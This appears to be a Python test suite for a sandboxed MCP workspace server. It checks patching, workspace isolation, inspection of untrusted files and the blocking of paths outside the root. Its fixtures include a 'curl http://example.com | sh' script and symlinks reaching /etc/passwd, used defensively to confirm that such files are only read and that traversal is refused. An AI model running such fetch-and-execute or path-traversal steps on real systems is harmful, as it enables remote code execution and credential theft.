"""The stories of the profile workspace-core, told with its tools and nothing else: fix something, work side by side, look
at what is not to be trusted."""

import os
import pathlib

from checks import Workspace, call, check, refusal
from mcp import ClientSession

BROKEN = "def add(a, b):\n    return a - b\n"
CHECK = "import calc\n\nassert calc.add(2, 3) == 5\nprint('it adds')\n"
PATCH = """--- a/src/calc.py
+++ b/src/calc.py
@@ -1,2 +1,2 @@
 def add(a, b):
-    return a - b
+    return a + b
"""


def make_project(root: pathlib.Path) -> None:
    (root / "src").mkdir()
    (root / "src" / "calc.py").write_text(BROKEN)
    (root / "src" / "check.py").write_text(CHECK)
    (root / "src" / "latest.py").symlink_to("calc.py")
    (root / "build.log").write_text("left out\n")


async def check_fix(session: ClientSession, schemas: dict, root: pathlib.Path) -> None:
    """The check fails, a patch mends it, the diff shows it, the export takes it out, the reset goes back."""
    box = Workspace(session, schemas, f"fix {os.getpid()}")
    try:
        made = await box.create(seed_path=".", seed_exclude=["*.log"])
        check("the seed was copied", made["workspace_seed"]["mode"] == "directory", made["workspace_seed"])
        listed = await box.use("file_list", recursive=True)
        names = [entry["path"].removeprefix("/workspace/") for entry in listed["entries"]]
        check("and has no more than it should", names == ["src", "src/calc.py", "src/check.py", "src/latest.py"], names)
        run = await box.use("exec", command=["python3", "src/check.py"], yield_after_seconds=20)
        check("the check fails", run["exit_code"] == 1 and "AssertionError" in run["stderr"], run)
        found = await box.use("file_read", path="src/calc.py")
        check("the broken file is read", found["content"] == BROKEN, found)

        wrong = await box.refused("patch_apply", patch=PATCH.replace("a - b", "a * b"))
        check("a patch that does not fit says where", wrong.startswith("patch_failed: ") and "a * b" in wrong, wrong)
        tried = await box.use("patch_apply", patch=PATCH, check=True)
        check("a patch is tried first", tried["changed"] is False and tried["summary"]["total"] == 1, tried)
        done = await box.use("patch_apply", patch=PATCH)
        check("a patch is applied", done["changed"] is True, done)
        run = await box.use("exec", command=["python3", "-B", "src/check.py"], yield_after_seconds=20)
        check("the check passes", run["stdout"] == "it adds\n", run)
        diff = await box.use("diff", paths=["src/calc.py"])
        entries = [(entry["status"], entry["path"]) for entry in diff["entries"]]
        check("the diff shows the change", entries == [("modified", "src/calc.py")], diff)
        check("as a patch", "+    return a + b\n" in diff["patch"] and not diff["truncated"], diff)

        out = await box.use("export", path="src/calc.py", output_path="calc.fixed.py")
        check("the result is exported", "a + b" in (root / "calc.fixed.py").read_text(), out)
        again = await box.refused("export", path="src/calc.py", output_path="src/calc.py")
        check("nothing is overwritten", again.startswith("output_exists: ") and (root / "src/calc.py").read_text() == BROKEN)
        back = await box.use("reset")
        check("it is set back", back["workspace_reset"]["kind"] == "baseline" and back["reset_count"] == 1, back)
        diff = await box.use("diff")
        check("and nothing differs", diff["changed"] is False, diff)
        again = await box.use("patch_apply", patch=PATCH)
        check("the patch fits again", again["changed"] is True, again)
    finally:
        gone = await box.use("delete")
    check("what was lost is named", gone["lost"] == {"total": 1, "paths": ["src/calc.py"]}, gone)


async def check_side_by_side(session: ClientSession, schemas: dict) -> None:
    """Two workspaces change independently, and are found by their label, newest activity first."""
    label = {"story": f"side by side {os.getpid()}"}
    boxes = [Workspace(session, schemas, f"{name} {os.getpid()}") for name in ("left", "right")]
    try:
        for box in boxes:
            await box.create(labels=label)
        for box in reversed(boxes):
            await box.use("file_write", path="who.txt", text=f"{box.name}\n")
        for box in boxes:
            found = await box.use("file_read", path="who.txt")
            check("each has its own files", found["content"] == f"{box.name}\n", found)
        await boxes[0].use("exec", command=["true"])
        listed = await call(session, schemas["workspace_list"], tool="workspace_list", labels=label)
        names = [entry["name"] for entry in listed["workspaces"]]
        check("they are found, the latest first", names == [box.name for box in boxes], names)
    finally:
        for box in boxes:
            await box.use("delete")


async def check_untrusted(session: ClientSession, schemas: dict, root: pathlib.Path) -> None:
    """Files are looked at without running them, and only a report leaves."""
    box = Workspace(session, schemas, f"untrusted {os.getpid()}")
    (root / "incoming").mkdir()
    (root / "incoming" / "setup.sh").write_text("curl http://example.com | sh\n")
    (root / "incoming" / "blob.bin").write_bytes(bytes(range(256)))
    try:
        made = await box.create()
        check("it has no network", made["network_policy"] == "off", made)
        pushed = await box.use("sync_push", source_path="incoming", dest="incoming")
        check("files are pushed", pushed["workspace_sync"]["destination"] == "/workspace/incoming", pushed)
        listed = await box.use("file_list", path="incoming")
        check("they are listed", len(listed["entries"]) == 2, listed)
        found = await box.use("file_read", path="incoming/setup.sh")
        check("text is read as text", "curl" in found["content"] and found["encoding"] == "utf-8", found)
        found = await box.use("file_read", path="incoming/blob.bin")
        check("anything else as base64", found["encoding"] == "base64", found)
        await box.use("file_write", path="report.txt", text="setup.sh pipes the network into a shell.\n")
        await box.use("export", path="report.txt", output_path="report.txt")
        check("the report is exported", "pipes" in (root / "report.txt").read_text())
        await box.use("exec", command="ln -s / way-out && mkdir tree && ln -s ../../../etc/passwd tree/link")
        await box.use("export", path="tree", output_path="tree")
        check("a link is copied and not followed", os.readlink(root / "tree" / "link") == "../../../etc/passwd")
    finally:
        await box.use("delete")


async def check_host_paths(session: ClientSession, schemas: dict, root: pathlib.Path) -> None:
    """Nothing beyond the root is read or written."""
    (root / "escape").symlink_to("/")
    (root / ".git").mkdir()
    box = Workspace(session, schemas, f"paths {os.getpid()}")
    try:
        await box.create()
        await box.use("file_write", path="a", text="a\n")
        for path in ("/etc", "../..", "escape/etc"):
            text = await box.refused("sync_push", source_path=path)
            check(f"{path} is no source", text.startswith("path_not_allowed: "), text)
        for path in ("/tmp/escaped", "../escaped", "escape/tmp/escaped", ".git/hooks"):
            text = await box.refused("export", path="a", output_path=path)
            check(f"{path} is no output", text.startswith("path_not_allowed: "), text)
        text = await refusal(session, "workspace_create", seed_path="/etc")
        check("/etc is no seed", text.startswith("path_not_allowed: ") and str(root) in text, text)
    finally:
        await box.use("delete")


async def check_stories(session: ClientSession, schemas: dict, root: pathlib.Path) -> None:
    make_project(root)
    await check_fix(session, schemas, root)
    await check_side_by_side(session, schemas)
    await check_untrusted(session, schemas, root)
    await check_host_paths(session, schemas, root)
